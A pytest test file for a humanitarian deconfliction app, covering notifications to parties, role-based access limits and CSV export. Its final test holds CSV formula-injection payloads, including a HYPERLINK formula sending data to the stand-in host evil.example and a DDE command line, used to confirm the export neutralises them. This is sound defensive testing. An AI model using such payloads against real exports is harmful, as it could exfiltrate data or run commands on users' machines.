"""Deconfliction through the API and the pages, as each kind of user."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from ulinzi.alerts.deconfliction.models import Notification


@pytest.fixture
def parties(demo_orgs: Any) -> Any:
    from ulinzi.alerts.deconfliction.demo import ensure_parties

    return ensure_parties("test-password")


def _movement(hours: float) -> dict[str, Any]:
    start = timezone.now() + timedelta(hours=hours)
    return {
        "purpose": "Evacuation of patients",
        "route": [[48.0, 37.8], [48.5, 35.0]],
        "departure_from": start.isoformat(),
        "departure_until": (start + timedelta(hours=1)).isoformat(),
        "arrival_from": (start + timedelta(hours=4)).isoformat(),
        "arrival_until": (start + timedelta(hours=8)).isoformat(),
        "people": 30,
        "vehicles": 6,
    }


def test_api_flow(api: Any, parties: Any) -> None:
    late = api("monitor2").post("/api/v1/deconfliction/movements", _movement(12))
    assert late.status_code == 422
    assert late.json()["errors"][0]["field"] == "departure_from"
    m = api("monitor2").post("/api/v1/deconfliction/movements", _movement(60)).json()
    site = (
        api("monitor2")
        .post(
            "/api/v1/deconfliction/sites",
            {
                "name": "Clinic",
                "site_type": "health_facility",
                "lat": 48.1,
                "lon": 37.7,
                "valid_from": "2025-05-01",
            },
        )
        .json()
    )
    sent = api("coordinator2").post(
        "/api/v1/deconfliction/notifications",
        {"parties": ["party-a", "party-b"], "sites": [site["id"]], "movements": [m["id"]]},
    )
    assert sent.status_code == 201, sent.content
    assert sorted(b["party"] for b in sent.json()) == ["party-a", "party-b"]

    focal = api("party-a-focal")
    listed = focal.get("/api/v1/deconfliction/notifications").json()
    assert "voluntary" in listed["notice"]
    assert {i["party"] for i in listed["items"]} == {"party-a"} and len(listed["items"]) == 2
    batch = (
        sent.json()[0]["batch"] if sent.json()[0]["party"] == "party-a" else sent.json()[1]["batch"]
    )
    assert (
        focal.post(f"/api/v1/deconfliction/batches/{batch}/acknowledge").json()["acknowledged"] == 2
    )
    other = Notification.objects.filter(party__code="party-b").get(kind="site")
    assert focal.get(f"/api/v1/deconfliction/notifications/{other.pk}").status_code == 404
    assert focal.get("/api/v1/deconfliction/exports/party-b/csv").status_code == 403
    csv_text = focal.get("/api/v1/deconfliction/exports/party-a/csv").content.decode()
    assert "guarantees nothing" in csv_text.splitlines()[0] and "#geo+lat" in csv_text
    detail = api("coordinator2").get(f"/api/v1/deconfliction/notifications/{other.pk}").json()
    assert [e["type"] for e in detail["events"]] == ["sent"]


def _client(user: Any, username: str) -> Client:
    client = Client()
    client.force_login(user(username))
    return client


def test_pages(user: Any, parties: Any) -> None:
    monitor = _client(user, "monitor2")
    r = monitor.post(
        "/deconfliction/sites/new/",
        {
            "name": "Amani office",
            "site_type": "office",
            "lat": "48.2",
            "lon": "37.6",
            "valid_from": "2025-05-01",
        },
    )
    assert r.status_code == 302
    start = timezone.now() + timedelta(hours=5)
    r = monitor.post(
        "/deconfliction/movements/new/",
        {
            "purpose": "Water trucking",
            "route": "48.2, 37.6\n48.3, 37.9",
            "departure_from": start.strftime("%Y-%m-%dT%H:%M"),
            "departure_until": (start + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
            "arrival_from": (start + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"),
            "arrival_until": (start + timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M"),
        },
    )
    assert r.status_code == 200 and "48 h ahead" in r.content.decode()  # refused, reason shown

    coordinator = _client(user, "coordinator2")
    page = coordinator.get("/deconfliction/").content.decode()
    assert "Amani office" in page and "voluntary" in page
    from ulinzi.alerts.deconfliction.models import Site

    site = Site.objects.get(name="Amani office")
    r = coordinator.post("/deconfliction/send/", {"sites": [str(site.pk)], "parties": ["party-a"]})
    assert r.status_code == 302
    focal = _client(user, "party-a-focal")
    inbox = focal.get("/deconfliction/party/").content.decode()
    assert "Amani office" in inbox and "guarantees nothing" in inbox
    n = Notification.objects.get()
    assert focal.get(f"/deconfliction/notifications/{n.pk}/").status_code == 200
    assert focal.post(f"/deconfliction/notifications/{n.pk}/acknowledge/").status_code == 302
    n.refresh_from_db()
    assert n.acknowledged_at is not None
    assert (
        "Acknowledged" in coordinator.get(f"/deconfliction/notifications/{n.pk}/").content.decode()
    )
    # Party B's focal point sees none of it; a case worker has no access at all.
    other = _client(user, "party-b-focal")
    assert "Amani office" not in other.get("/deconfliction/party/").content.decode()
    assert other.get(f"/deconfliction/notifications/{n.pk}/").status_code == 404
    assert other.get(f"/deconfliction/sites/{site.pk}/").status_code == 404
    assert _client(user, "case_worker").get("/deconfliction/").status_code == 403
    assert _client(user, "analyst").get("/deconfliction/sites/new/").status_code == 403
    assert _client(user, "monitor2").get("/deconfliction/party/").status_code == 403


def test_csv_export_never_starts_a_formula_and_keeps_negative_numbers(
    api: Any, parties: Any
) -> None:
    import csv
    import io

    names = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    sites = [
        api("monitor2")
        .post(
            "/api/v1/deconfliction/sites",
            {
                "name": name,
                "site_type": "health_facility",
                "lat": -3.5,
                "lon": -60.25,
                "valid_from": "2025-05-01",
            },
        )
        .json()["id"]
        for name in names
    ]
    sent = api("coordinator2").post(
        "/api/v1/deconfliction/notifications", {"parties": ["party-a"], "sites": sites}
    )
    assert sent.status_code == 201, sent.content
    text = api("party-a-focal").get("/api/v1/deconfliction/exports/party-a/csv").content.decode()
    _notice, _header, tags, *rows = list(csv.reader(io.StringIO(text)))
    assert sorted(r[tags.index("#loc+name")] for r in rows) == sorted("'" + n for n in names)
    assert {(r[tags.index("#geo+lat")], r[tags.index("#geo+lon")]) for r in rows} == {
        ("-3.5", "-60.25")
    }
